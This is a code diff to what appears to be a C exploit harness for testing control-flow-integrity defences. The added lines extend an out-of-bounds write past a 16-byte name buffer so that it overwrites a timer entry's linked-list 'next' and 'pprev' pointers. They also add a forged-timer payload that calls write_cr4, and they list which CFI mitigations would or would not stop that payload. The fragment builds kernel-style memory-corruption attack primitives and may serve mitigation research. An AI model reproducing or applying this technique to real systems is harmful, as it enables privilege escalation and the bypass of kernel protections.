@@ -115,6 +115,16 @@ static void do_index_intra(struct ctx *c)
 	}
 	/* In bounds first (the planted bytes), then only the pointer bytes. */
 	write_range(c, 0, c->plan.plant_len);
+	if (c->plan.goal.has_next) {
+		th_emit("TH-NOTE: ring_set_byte(ring, %zu..%zu, ...): entry.next's bytes, past name[15]",
+			(size_t)ATK_OFF_NEXT, (size_t)ATK_OFF_NEXT + 7);
+		write_range(c, ATK_OFF_NEXT, ATK_OFF_NEXT + sizeof(uintptr_t));
+	}
+	if (c->plan.goal.has_pprev) {
+		th_emit("TH-NOTE: ring_set_byte(ring, %zu..%zu, ...): entry.pprev's bytes",
+			(size_t)ATK_OFF_PPREV, (size_t)ATK_OFF_PPREV + 7);
+		write_range(c, ATK_OFF_PPREV, ATK_OFF_PPREV + sizeof(uintptr_t));
+	}
 	if (c->plan.sets_function) {
 		th_emit("TH-NOTE: ring_set_byte(ring, %zu..%zu, ...): .function's bytes, past name[15]",
 			(size_t)ATK_OFF_FUNCTION, (size_t)ATK_OFF_FUNCTION + 7);
@@ -234,6 +244,10 @@ static void name_stoppers(const struct ctx *c)
 		break;
 	case TH_PAYLOAD_FUNC_RAW_BODY:
 		by_payload = "cfi-icall (a body is not a jump-table entry); not kcfi or fsanitize-function (the body carries the hash)";
+		break;
+	case TH_PAYLOAD_LIST_FORGED_TIMER:
+		by_payload = TH_ATK_HAS_DATA ? "no type-based CFI: the forged timer's write_cr4(unsigned long) has the call site's type; nothing checks the hlist pointers (CONFIG_DEBUG_LIST covers list_head only)"
+					     : "cfi-icall, kcfi, fsanitize-function: the forged timer's write_cr4 is not a void (*)(struct timer_list *)";
 		break;
 	default:
 		by_payload = "cfi-icall, kcfi (not a valid target of this type)";
@@ -433,6 +447,7 @@ int th_attack_run(const struct th_attack *a)
 	th_emit("TH-NOTE: technique: %s", th_technique_what(a->technique));
 	if (th_payload_prepare(&c.plan, a->payload))
 		return 1;
+	c.plan.pending = c.pending;
 	switch (a->technique) {
 	case TH_TECH_HEAP_NEIGHBOUR:
 		return run_heap_neighbour(&c);
